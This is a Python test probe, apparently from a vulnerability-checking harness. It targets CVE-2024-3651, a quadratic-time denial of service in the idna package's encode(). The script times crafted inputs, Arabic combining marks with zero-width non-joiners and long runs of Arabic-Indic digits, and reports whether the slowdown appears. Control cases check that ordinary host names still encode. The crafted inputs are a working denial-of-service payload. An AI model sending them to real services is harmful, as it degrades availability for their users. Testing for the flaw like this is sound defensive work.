# /// vertice-probe
# id = "PYSEC-2024-60"
# aliases = ["CVE-2024-3651"]
# package = "idna"
# summary = """\
#   encode() looks through the whole label again for each character with a context rule, so a long host name takes \
#   quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "dos"
# symbols = ["idna.encode", "idna.alabel", "idna.check_label", "idna.core.encode"]
#
# [[affected]]
# package = "idna"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0.1" }, { fixed = "3.7" }] }]
#
# [cases]
# attack = "joiners between combining marks take quadratic time"
# [cases.variants]
# digits = "Arabic-Indic digits, whose rule looks through the label for digits of the other kind"
# [cases.controls]
# names = "German, Persian and plain host names are encoded and decoded"
#
# [test]
# vulnerable = "3.6"
# fixed = "3.14"
# ///
"""CVE-2024-3651: quadratic context checks (published as fixed in 3.7, where contextual digits are still quadratic)."""

import json
import sys
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    least = []
    for size in (small, large):
        runs = []
        # Of what is quick there are more: else a busy neighbour may be there all the while.
        while len(runs) < 3 or (sum(runs) < 0.1 and len(runs) < 100):
            begin = time.process_time()
            answer = work(size)
            runs.append(time.process_time() - begin)
        least.append(min(runs))
    ratio = least[1] / max(least[0], 0.002)  # below 2 ms the clock's noise is larger than the growth
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        least[0] * 1000,
        least[1] * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def work(label):
    import idna

    def encode(size):
        try:
            idna.encode(label(size))
        except idna.IDNAError as error:
            return "refused with %s" % type(error).__name__
        raise RuntimeError("a label that is too long was encoded")

    return encode


def attack():
    return judge(work(lambda size: "\u0628" + "\u064e\u200c" * size + "\u0628"), 300, 1200, 8, "joiners")


def digits():
    return judge(work(lambda size: "\u0660" * size), 800, 3200, 8, "digits")


def names():
    import idna

    pairs = [
        ("b\u00fccher.example", b"xn--bcher-kva.example"),
        ("\u0646\u0627\u0645\u0647\u200c\u0627\u06cc.example", b"xn--mgba3gch31f060k.example"),
        ("www.example.org", b"www.example.org"),
    ]
    for name, wire in pairs:
        if idna.encode(name) != wire or idna.decode(wire) != name:
            return "broken", repr((name, idna.encode(name)))
    return "works", "three names encoded and decoded"


CASES = {"attack": attack, "digits": digits, "names": names}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
